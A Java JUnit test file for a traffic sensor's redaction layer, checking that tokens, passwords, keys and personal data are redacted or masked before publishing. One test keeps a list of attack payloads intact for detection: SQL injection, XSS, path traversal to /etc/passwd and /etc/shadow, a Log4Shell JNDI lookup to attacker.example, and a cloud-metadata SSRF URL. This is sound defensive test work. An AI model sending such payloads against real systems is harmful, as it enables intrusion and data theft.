package io.periscope.reassembly.redact;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import io.periscope.events.http.Body;
import io.periscope.events.http.Credential;
import io.periscope.events.http.Header;
import io.periscope.events.http.QueryParam;
import io.periscope.events.kafka.EventJson;
import io.periscope.reassembly.enrich.CredentialRedactor;
import io.periscope.sensitive.CustomType;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;
import org.junit.jupiter.api.Test;

/** Every location, shape and direction of the rules in docs/events.md ("What is redacted and masked before Kafka"). */
class RedactionTest {
    static final String JWT = b64("{\"alg\":\"RS256\",\"typ\":\"JWT\"}") + "." + b64("{\"sub\":\"user-7\",\"exp\":1900000000}")
            + ".QmVhcmVyLXNpZ25hdHVyZS1ieXRlcw";
    static final String BCRYPT = "$2b$12$KIXQJ8h3nJX3l8ZBzYpZ2eW9y0vQ9q3o8v1M0qk6QhZ5s3z5Yt3xW";
    static final String CARD = "4111111111111111";
    static final String SSN = "219-45-6789";
    static final String IBAN = "DE89370400440532013000";

    private final Redaction redaction = new Redaction();

    private static String b64(String s) {
        return Base64.getUrlEncoder().withoutPadding().encodeToString(s.getBytes(StandardCharsets.UTF_8));
    }

    private static String fingerprintIn(String marker) {
        int last = marker.lastIndexOf(':');
        return marker.substring(last + 1, marker.indexOf(']', last));
    }

    @Test
    void aTokenIssuedInASignInResponseBodyHasTheFingerprintOfTheSameTokenPresentedInAuthorization() {
        MessageRedactions signIn = Redaction.response();
        String body = redaction.body(signIn, "application/json", "{\"user\":{\"id\":7},\"accessToken\":\"" + JWT + "\"}");
        MessageRedactions later = Redaction.request();
        redaction.requestHeaders(later, new Header("Authorization", "Bearer " + JWT));

        Credential issued = signIn.credentials().get(0);
        Credential presented = later.credentials().get(0);
        assertThat(body).doesNotContain(JWT).contains("\"accessToken\":\"[redacted:Jwt:" + issued.fingerprint() + "]\"");
        assertThat(issued.fingerprint()).isEqualTo(presented.fingerprint());
        assertThat(issued.direction()).isEqualTo(Credential.Direction.RESPONSE);
        assertThat(issued.location()).isEqualTo(Credential.Location.BODY);
        assertThat(issued.name()).isEqualTo("/accessToken");
        assertThat(issued.jwt().sub()).isEqualTo("user-7");
        assertThat(presented.direction()).isEqualTo(Credential.Direction.REQUEST);
    }

    @Test
    void passwordsInJsonAndFormBodiesGetThePasswordKeySoReuseAcrossAccountsShows() {
        MessageRedactions alice = Redaction.request();
        String json = redaction.body(alice, "application/json", "{\"username\":\"alice\",\"password\":\"Winter2024!\"}");
        MessageRedactions bob = Redaction.request();
        String form = redaction.body(bob, "application/x-www-form-urlencoded", "username=bob&password=Winter2024%21&remember=on");
        MessageRedactions token = Redaction.request();
        redaction.requestHeaders(token, new Header("X-Api-Token", "Winter2024!"));

        assertThat(json).doesNotContain("Winter2024").contains("\"username\":\"alice\"");
        assertThat(form).doesNotContain("Winter2024").startsWith("username=bob&password=[redacted:Password:").endsWith("&remember=on");
        Credential a = alice.credentials().get(0);
        Credential b = bob.credentials().get(0);
        assertThat(a.scheme()).isEqualTo("Password");
        assertThat(a.fingerprint()).isEqualTo(b.fingerprint());
        // the same string as a token is fingerprinted with the install key: password fingerprints are unrelated
        assertThat(token.credentials().get(0).fingerprint()).isNotEqualTo(a.fingerprint());
        assertThat(a.jwt()).isNull();
    }

    @Test
    void maskedLoginNamesOfSignInsKeepDistinctKeyedFingerprintsSoStuffedAccountsDoNotCollapse() {
        MessageRedactions first = Redaction.request();
        String json = redaction.body(first, "application/json", "{\"email\":\"Ann.One@example.com\",\"password\":\"pw-1\"}");
        MessageRedactions second = Redaction.request();
        String form = redaction.body(second, "application/x-www-form-urlencoded", "username=ann.two%40example.com&password=pw-2");
        MessageRedactions again = Redaction.request();
        redaction.body(again, "application/json", "{\"email\":\"ann.one@EXAMPLE.com\",\"password\":\"pw-3\"}");
        MessageRedactions issued = Redaction.response();
        redaction.body(issued, "application/json", "{\"email\":\"ann.one@example.com\"}");

        // both masked to the same visible form: only the Login fingerprint tells the accounts apart
        assertThat(json).contains("[masked:email:A***@example.com]").doesNotContain("Ann.One");
        assertThat(form).contains("[masked:email:a***@example.com]").doesNotContain("ann.two");
        Credential a = login(first);
        Credential b = login(second);
        assertThat(a.location()).isEqualTo(Credential.Location.BODY);
        assertThat(a.name()).isEqualTo("/email");
        assertThat(a.fingerprint()).isNotEqualTo(b.fingerprint()).isEqualTo(login(again).fingerprint());
        assertThat(a.fingerprint()).doesNotContain("ann").hasSize(32);
        // a login shown in a response is data, not a sign-in: no Login credential
        assertThat(issued.credentials()).noneMatch(c -> c.scheme().equals(ValueRedactor.LOGIN_SCHEME));
    }

    private static Credential login(MessageRedactions m) {
        return m.credentials().stream().filter(c -> c.scheme().equals(ValueRedactor.LOGIN_SCHEME)).findFirst().orElseThrow();
    }

    @Test
    void credentialHeadersOutsideTheOldListsAndAnyHeaderHoldingAJwtAreRedactedInBothDirections() {
        MessageRedactions m = Redaction.request();
        List<Header> out = redaction.requestHeaders(m, new Header("X-Id-Token", "opaque-id-token-1"),
                new Header("X-Refresh-Token", "opaque-refresh-2"), new Header("X-Api-Token", "opaque-api-3"),
                new Header("X-Amz-Security-Token", "FwoGZXIvYXdzEJr"), new Header("Proxy-Authorization", "Basic dTpw"),
                new Header("X-Custom-Context", JWT), new Header("User-Agent", "curl/8.0"));
        assertThat(out.toString()).doesNotContain("opaque-").doesNotContain("FwoGZXIvYXdzEJr").doesNotContain(JWT)
                .doesNotContain("dTpw").contains("curl/8.0");
        assertThat(m.credentials()).extracting(Credential::name).containsExactly("X-Id-Token", "X-Refresh-Token",
                "X-Api-Token", "X-Amz-Security-Token", "Proxy-Authorization", "X-Custom-Context");

        MessageRedactions resp = Redaction.response();
        List<Header> r = redaction.headers.response(resp, List.of(new Header("X-Refresh-Token", "issued-refresh"),
                new Header("Set-Cookie", "session=abc; HttpOnly")));
        assertThat(r.toString()).doesNotContain("issued-refresh").doesNotContain("=abc");
        assertThat(resp.credentials()).extracting(Credential::direction).containsOnly(Credential.Direction.RESPONSE);
        assertThat(resp.credentials()).extracting(Credential::name).containsExactly("X-Refresh-Token", "session");
    }

    @Test
    void queryParametersNamedLikeCredentialsAndPresignedUrlParametersAreRedacted() {
        MessageRedactions m = Redaction.request();
        CredentialRedactor.RedactedRequest r = redaction.headers.request(m, "/download?jwt=" + JWT
                + "&id_token=idt&refresh_token=rft&password=pw1&client_secret=cs1&sig=sg1&signature=sg2"
                + "&X-Amz-Signature=abcdef0123&X-Amz-Credential=AKIAIOSFODNN7EXAMPLE%2F20250101%2Fus-east-1"
                + "&X-Amz-Security-Token=st1&X-Amz-Date=20250101T000000Z&page=2", List.of());
        assertThat(r.target()).doesNotContain(JWT).doesNotContain("idt&").doesNotContain("rft").doesNotContain("pw1")
                .doesNotContain("cs1").doesNotContain("sg1").doesNotContain("sg2").doesNotContain("abcdef0123")
                .doesNotContain("AKIAIOSFODNN7EXAMPLE").doesNotContain("st1").contains("X-Amz-Date=20250101T000000Z")
                .endsWith("&page=2");
        assertThat(r.query()).extracting(QueryParam::value).filteredOn(v -> !v.startsWith("[redacted:"))
                .containsExactly("20250101T000000Z", "2");
        assertThat(m.credentials()).hasSize(10).extracting(Credential::location).containsOnly(Credential.Location.QUERY);
    }

    @Test
    void jsonValuesAreRewrittenAtAnyDepthIncludingArraysAndNumbers() throws Exception {
        MessageRedactions m = Redaction.response();
        String out = redaction.body(m, "application/vnd.api+json", "{\"data\":{\"users\":[{\"name\":\"Ada\",\"email\":"
                + "\"ada@example.org\",\"card\":{\"number\":" + CARD + "},\"ssn\":\"" + SSN + "\",\"iban\":\"" + IBAN
                + "\",\"hash\":\"" + BCRYPT + "\",\"keys\":{\"aws\":\"AKIAIOSFODNN7EXAMPLE\"},\"ip\":\"10.1.2.3\","
                + "\"tokens\":[\"" + JWT + "\"]}]},\"count\":1}");
        JsonNode doc = EventJson.mapper().readTree(out); // still valid JSON
        JsonNode user = doc.at("/data/users/0");
        assertThat(user.get("name").asText()).isEqualTo("Ada");
        assertThat(user.get("email").asText()).isEqualTo("[masked:email:a***@example.org]");
        assertThat(user.at("/card/number").asText()).isEqualTo("[masked:payment_card:4111 **** **** 1111]");
        assertThat(user.get("ssn").asText()).isEqualTo("[masked:us_ssn:***-**-6789]");
        assertThat(user.get("iban").asText()).startsWith("[masked:iban:").doesNotContain(IBAN);
        assertThat(user.get("hash").asText()).startsWith("[redacted:PasswordHash:");
        assertThat(user.at("/keys/aws").asText()).startsWith("[redacted:AwsAccessKey:");
        assertThat(user.get("ip").asText()).isEqualTo("10.1.2.3"); // addresses stay: detection needs them
        assertThat(user.at("/tokens/0").asText()).startsWith("[redacted:Jwt:");
        assertThat(doc.get("count").asInt()).isEqualTo(1);
        assertThat(m.credentials()).extracting(Credential::name)
                .containsExactly("/data/users/0/hash", "/data/users/0/keys/aws", "/data/users/0/tokens/0");
    }

    @Test
    void aJsonBodyWithNothingToRedactIsPublishedAsSentAndARewriteKeepsNumbersAsWrittenAndCountsEachValueOnce() {
        String clean = "{ \"price\": 1.50, \"big\": 12345678901234567890, \"e\": 1E3, \"ok\": [true, null] }";
        assertThat(redaction.body(Redaction.response(), "application/json", clean)).isEqualTo(clean);

        MessageRedactions m = Redaction.request();
        String out = redaction.body(m, "application/json", "{\"price\": 1.50, \"e\": 1E3, \"email\": \"ada@example.org\","
                + " \"token\": \"" + JWT + "\", \"n\": -0.0}");
        assertThat(out).matches("\\{\"price\":1\\.50,\"e\":1E3,\"email\":\"\\[masked:email:a\\*\\*\\*@example\\.org]\","
                + "\"token\":\"\\[redacted:Jwt:[^\"]+]\",\"n\":-0\\.0}");
        // the masked e-mail sits under a login field of a request: described by its keyed Login fingerprint too
        assertThat(m.credentials()).extracting(Credential::name).containsExactly("/email", "/token");
        assertThat(m.credentials()).extracting(Credential::scheme).containsExactly(ValueRedactor.LOGIN_SCHEME, "Jwt");
        assertThat(redaction.metrics.value("redactions{kind=masked,type=email}")).isEqualTo(1);
        assertThat(redaction.metrics.value("redactions{kind=credential,type=Jwt}")).isEqualTo(1);

        // JSON pointers as RFC 6901 writes them: "~" and "/" escaped, array indexes, an empty name
        MessageRedactions escaped = Redaction.request();
        redaction.body(escaped, "application/json", "{\"a/b~c\":[{\"x\":1},[\"" + JWT + "\"]],\"\":{\"secret\":\"s3cr3t-v4lue\"}}");
        assertThat(escaped.credentials()).extracting(Credential::name).containsExactly("/a~1b~0c/1/0", "//secret");
    }

    @Test
    void aTruncatedJsonBodyIsStillMaskedUpToItsLastByte() {
        MessageRedactions m = Redaction.request();
        String out = redaction.body(m, "application/json",
                "{\"items\":[{\"card\":\"" + CARD + "\",\"note\":\"ok\"}],\"user\":{\"password\":\"correct horse batt");
        assertThat(out).doesNotContain(CARD).doesNotContain("correct").doesNotContain("horse").doesNotContain("batt")
                .startsWith("{\"items\":[{\"card\":\"[masked:payment_card:").contains("\"password\":\"[redacted:Password:");
        assertThat(redaction.metrics.value("bodies.text-fallback{reason=truncated_json}")).isEqualTo(1);

        MessageRedactions cutToken = Redaction.response();
        String cut = redaction.body(cutToken, "application/json", "{\"access_token\":\"" + JWT.substring(0, 40));
        assertThat(cut).doesNotContain(JWT.substring(0, 40)).contains("[redacted:Token:");
    }

    @Test
    void jsonThatDoesNotParseOrNestsTooDeepIsScannedAsText() {
        Redaction shallow = new Redaction(b -> b.maxJsonDepth(4));
        MessageRedactions m = Redaction.request();
        String deep = "{\"a\":{\"b\":{\"c\":{\"d\":{\"e\":{\"password\":\"p4ss\",\"card\":\"" + CARD + "\"}}}}}}";
        String out = shallow.body(m, "application/json", deep);
        assertThat(out).doesNotContain("p4ss").doesNotContain(CARD);
        assertThat(shallow.metrics.value("bodies.text-fallback{reason=too_deep}")).isEqualTo(1);

        String broken = redaction.body(Redaction.request(), "application/json", "{\"email\": 'x', \"secret\": \"s3\" ; "
                + "\"token\": \"" + JWT + "\"}");
        assertThat(broken).doesNotContain("s3\"").doesNotContain(JWT);
    }

    @Test
    void multipartFieldsAndTextualPartsAreRewrittenAndBinaryFilePartsKeptAsSent() {
        String boundary = "----b0undary";
        byte[] png = {(byte) 0x89, 'P', 'N', 'G', 0, 1, 2, (byte) 0xff};
        String head = "--" + boundary + "\r\nContent-Disposition: form-data; name=\"password\"\r\n\r\nhunter2\r\n"
                + "--" + boundary + "\r\nContent-Disposition: form-data; name=\"profile\"; filename=\"p.json\"\r\n"
                + "Content-Type: application/json\r\n\r\n{\"ssn\":\"" + SSN + "\"}\r\n"
                + "--" + boundary + "\r\nContent-Disposition: form-data; name=\"avatar\"; filename=\"a.png\"\r\n"
                + "Content-Type: image/png\r\n\r\n";
        String tail = "\r\n--" + boundary + "--\r\n";
        byte[] content = concat(head.getBytes(StandardCharsets.ISO_8859_1), png, tail.getBytes(StandardCharsets.ISO_8859_1));
        MessageRedactions m = Redaction.request();
        Body out = redaction.bodyOf(m, "multipart/form-data; boundary=" + boundary, content);
        String text = new String(out.content(), StandardCharsets.ISO_8859_1);
        assertThat(text).doesNotContain("hunter2").doesNotContain(SSN).contains("[redacted:Password:")
                .contains("[masked:us_ssn:***-**-6789]").endsWith(tail);
        assertThat(text).contains(new String(png, StandardCharsets.ISO_8859_1));
        assertThat(out.unscanned()).isNull();
        assertThat(m.credentials()).extracting(Credential::name).containsExactly("password");
    }

    @Test
    void otherTextualBodiesAreScannedWordByWord() {
        MessageRedactions m = Redaction.response();
        String out = redaction.body(m, "text/plain", "Dear customer, card 4111 1111 1111 1111 2025 on file;\n"
                + "call +1 415 555 2671 or write to jane.doe@example.org.\napi_key=abc123XYZ token: " + JWT + "\n"
                + "-----BEGIN EC PRIVATE KEY-----\nMHcCAQEEIBkg\n-----END EC PRIVATE KEY-----\nbye");
        assertThat(out).doesNotContain("4111 1111 1111 1111").doesNotContain("555 2671").doesNotContain("jane.doe")
                .doesNotContain("abc123XYZ").doesNotContain(JWT).doesNotContain("MHcCAQEEIBkg")
                .contains("[masked:payment_card:4111 **** **** 1111] 2025").contains("Dear customer").endsWith("\nbye");
    }

    @Test
    void pathSegmentsThatAreCredentialsOrSensitiveValuesAreReplacedAndTraversalPathsStayIntact() {
        MessageRedactions m = Redaction.request();
        CredentialRedactor.RedactedRequest r = redaction.headers.request(m,
                "/password-reset/" + JWT + "/users/alice%40example.com/orders/12345?page=2", List.of());
        assertThat(r.path()).doesNotContain(JWT).doesNotContain("alice").startsWith("/password-reset/[redacted:")
                .contains("/users/[masked:email:").endsWith("/orders/12345");
        assertThat(r.target()).isEqualTo(r.path() + "?page=2");
        assertThat(m.credentials()).singleElement().satisfies(c -> {
            assertThat(c.location()).isEqualTo(Credential.Location.PATH);
            assertThat(c.name()).isEqualTo("segment 1");
            assertThat(c.fingerprint()).isEqualTo(fingerprintIn(r.path().substring("/password-reset/".length(),
                    r.path().indexOf("]/users") + 1)));
        });

        MessageRedactions attack = Redaction.request();
        String traversal = "/static/..%2f..%2f..%2fetc%2fpasswd/../../windows/win.ini";
        CredentialRedactor.RedactedRequest t = redaction.headers.request(attack, traversal, List.of());
        assertThat(t.path()).isEqualTo(traversal);
        assertThat(t.target()).isSameAs(traversal);
        assertThat(attack.credentials()).isEmpty();
    }

    @Test
    void attackPayloadsThatAreNotCredentialsStayIntactForDetection() {
        String[] attacks = {"' OR '1'='1' --", "1 UNION SELECT username, password FROM users", "<script>alert(1)</script>",
                "../../../../etc/passwd", "..%2f..%2fetc%2fshadow", "${jndi:ldap://attacker.example:1389/a}",
                "{\"$where\": \"sleep(1000)\"}", "http://169.254.169.254/latest/meta-data/iam/"};
        for (String attack : attacks) {
            String json = EventJson.mapper().valueToTree(java.util.Map.of("q", attack)).toString();
            assertThat(redaction.body(Redaction.request(), "application/json", json)).as(attack).isEqualTo(json);
            assertThat(redaction.body(Redaction.request(), "text/plain", attack)).as(attack).isEqualTo(attack);
            MessageRedactions m = Redaction.request();
            List<Header> h = redaction.requestHeaders(m, new Header("User-Agent", attack), new Header("X-Search", attack));
            assertThat(h).extracting(Header::value).as(attack).containsOnly(attack);
            assertThat(m.credentials()).isEmpty();
        }
    }

    @Test
    void bodiesThatCannotBeScannedSayWhyAndAreCounted() {
        Body binary = redaction.bodyOf(Redaction.request(), "application/octet-stream", new byte[] {0, 1, 2, (byte) 0xfe});
        assertThat(binary.unscanned()).isEqualTo(Body.Unscanned.BINARY);
        byte[] gz = {0x1f, (byte) 0x8b, 8, 0};
        Body undecoded = redaction.bodies.redact(Redaction.request(),
                new Body(gz, 4, 4, false, "application/json", List.of("gzip"), false), "application/json");
        assertThat(undecoded.unscanned()).isEqualTo(Body.Unscanned.UNDECODED);
        assertThat(undecoded.wireLength()).isEqualTo(4);
        assertThat(redaction.metrics.value("bodies.unscanned{reason=binary}")).isEqualTo(1);
        assertThat(redaction.metrics.value("bodies.unscanned{reason=undecoded}")).isEqualTo(1);
    }

    @Test
    void aRewrittenBodyKeepsItsWireLengthsAndRedactionsAreCountedByKindAndType() {
        String json = "{\"password\":\"x\",\"email\":\"ada@example.org\"}";
        Body out = redaction.bodyOf(Redaction.request(), "application/json", json.getBytes(StandardCharsets.UTF_8));
        assertThat(out.wireLength()).isEqualTo(json.length());
        assertThat(out.decodedLength()).isEqualTo(json.length());
        assertThat(out.content().length).isNotEqualTo(json.length());
        assertThat(redaction.metrics.value("redactions{kind=credential,type=Password}")).isEqualTo(1);
        assertThat(redaction.metrics.value("redactions{kind=masked,type=email}")).isEqualTo(1);
    }

    @Test
    void customSensitiveTypesOfDiscoveryAreMaskedAtTheSensorAndMaskedTypesAreConfigurable() {
        Redaction custom = new Redaction(b -> b.customSensitiveTypes(List.of(
                new CustomType("employee_id", "employee", "E-[0-9]{6}", CustomType.Validator.NONE)))
                .maskedSensitiveTypes(List.of("payment_card")));
        String out = custom.body(Redaction.request(), "application/json",
                "{\"employeeId\":\"E-123456\",\"email\":\"ada@example.org\",\"card\":\"" + CARD + "\"}");
        assertThat(out).doesNotContain("E-123456").contains("[masked:employee_id:")
                .contains("ada@example.org").doesNotContain(CARD);
    }

    @Test
    void configuredExclusionsAndExtraNamesApplyToEveryLocation() {
        Redaction configured = new Redaction(b -> b.credentialNames(List.of("pin_block"))
                .credentialNameExclusions(List.of("session")));
        MessageRedactions m = Redaction.request();
        String out = configured.body(m, "application/json", "{\"pinBlock\":\"0412AC\",\"session\":\"checkout\"}");
        assertThat(out).doesNotContain("0412AC").contains("\"session\":\"checkout\"");
    }

    private static byte[] concat(byte[]... parts) {
        int n = 0;
        for (byte[] p : parts) {
            n += p.length;
        }
        byte[] out = new byte[n];
        int at = 0;
        for (byte[] p : parts) {
            System.arraycopy(p, 0, out, at, p.length);
            at += p.length;
        }
        return out;
    }
}
